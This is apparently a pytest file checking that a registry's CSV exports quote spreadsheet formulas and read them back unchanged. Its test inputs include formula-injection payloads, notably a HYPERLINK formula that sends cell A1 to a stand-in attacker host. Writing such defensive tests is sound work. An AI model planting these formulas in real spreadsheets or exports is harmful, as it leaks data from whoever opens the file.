"""Spreadsheet-safe CSV (issue 13, "Why" 8): every CSV the registry writes goes through
registry.csv_files.write_csv, which quotes what a spreadsheet would run as a formula; imports read
the values back unchanged, so export → import → export gives the same file."""

import ast
import csv
import io
import sys
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlmodel import Session

from agreements import exchange, services
from agreements.schemas import InstrumentCreate
from registry.csv_files import CsvRefused, cell_text, from_spreadsheet, read_csv, spreadsheet_safe, write_csv
from tests.factories import LEGAL
from tests.test_agreements_exchange import empty_registry

ROOT = Path(__file__).resolve().parents[1]
HOSTILE_VALUES = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "@SUM(A1:A9)", "-1", "+33 1 45 67 89 00",
                  "\t=1+1", "\r=1+1", "'=already quoted", "''@twice", "'plain quote", "Accord – normal"]


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_a_formula_is_quoted_and_read_back_unchanged(value):
    safe = spreadsheet_safe(value)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert from_spreadsheet(safe) == value
    (header, row), = [list(read_csv(write_csv([[value]], ["title"])))]
    assert header == ["title"] and row == [value]


def test_what_a_spreadsheet_would_see_starts_with_a_quote():
    text = write_csv([["=HYPERLINK(\"x\")", "@SUM(A1)", "-1", "ok"]], ["a", "b", "c", "d"])
    cells = list(csv.reader(io.StringIO(text)))[1]
    assert cells == ["'=HYPERLINK(\"x\")", "'@SUM(A1)", "'-1", "ok"]


def test_values_that_are_not_text():
    """What the exports and the open-data dump put in a cell for values that are not text."""
    values = (None, True, False, 3, date(2023, 12, 1), datetime(2024, 1, 2, 9, 0, tzinfo=UTC), ["old_age", "sickness"],
              ("ca", "es"))
    assert [cell_text(v) for v in values] == ["", "true", "false", "3", "2023-12-01", "2024-01-02T09:00:00+00:00",
                                             "old_age;sickness", "ca;es"]


def csv_writers_outside_the_helper() -> list[str]:
    """Every use of csv.writer / csv.DictWriter in the project's code, outside registry/csv_files.py."""
    found = []
    for package in ("registry", "agreements", "forms", "search"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "registry" / "csv_files.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                        isinstance(node.value, ast.Name) and node.value.id == "csv":
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
                if isinstance(node, ast.ImportFrom) and node.module == "csv" and \
                        {a.name for a in node.names} & {"writer", "DictWriter"}:
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    return found


def test_no_csv_is_written_around_the_helper():
    assert csv_writers_outside_the_helper() == []


def test_the_guard_finds_a_writer_that_bypasses_the_helper(tmp_path, monkeypatch):
    """The check above can fail: a module calling csv.writer is found."""
    rogue = ROOT / "registry" / "zz_rogue_csv_writer_test.py"
    rogue.write_text("import csv\n\ndef dump(out):\n    csv.writer(out).writerow(['=1'])\n", encoding="utf-8")
    try:
        assert csv_writers_outside_the_helper() == ["registry/zz_rogue_csv_writer_test.py:4"]
    finally:
        rogue.unlink()


def test_instrument_export_is_safe_and_round_trips(session, tmp_path):
    for number, value in enumerate(HOSTILE_VALUES):
        values = InstrumentCreate.model_validate({"country_code": "RS", "kind": "protocol", "title_fr": value,
                                                  "title_partner": value, "source": value,
                                                  "signed_on": f"2024-05-{number + 1:02d}"}).values()
        services.create_instrument(session, LEGAL, values)
    session.commit()
    instruments_csv, links_csv = exchange.export_csv(session)
    titles = [row[list(exchange.INSTRUMENT_COLUMNS).index("title_fr")]
              for row in list(csv.reader(io.StringIO(instruments_csv)))[1:]]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")" in titles and "'@SUM(A1:A9)" in titles
    assert "'-1" in titles and "'+33 1 45 67 89 00" in titles and "''=already quoted" in titles
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
    target = empty_registry(tmp_path)
    with Session(target) as other:
        exchange.import_rows(other, LEGAL, exchange.rows_from_csv(instruments_csv), exchange.rows_from_csv(links_csv),
                             dry_run=False)
        other.commit()
        assert exchange.export_csv(other) == (instruments_csv, links_csv)
        imported = {i["title_fr"] for i in exchange.export_data(other)["instruments"]}
    assert set(HOSTILE_VALUES) <= imported  # read back as they were typed, without the quote


def test_a_cell_over_128_kib_is_refused_with_its_line():
    text = "a,b\nx,y\n" + "z," + "w" * (130 * 2**10) + "\n"
    with pytest.raises(CsvRefused) as refused:
        list(read_csv(text))
    assert refused.value.params["line"] == 3 and "longer than 131,072 characters" in str(refused.value)


def test_the_limit_holds_when_a_library_raises_the_csv_modules_own():
    """The csv module's limit is process-wide: frictionless raises it to sys.maxsize on import."""
    previous = csv.field_size_limit(sys.maxsize)
    try:
        with pytest.raises(CsvRefused) as refused:
            list(read_csv("a,b\nx,y\n" + "z," + "w" * (130 * 2**10) + "\n"))
    finally:
        csv.field_size_limit(previous)
    assert refused.value.params["line"] == 3
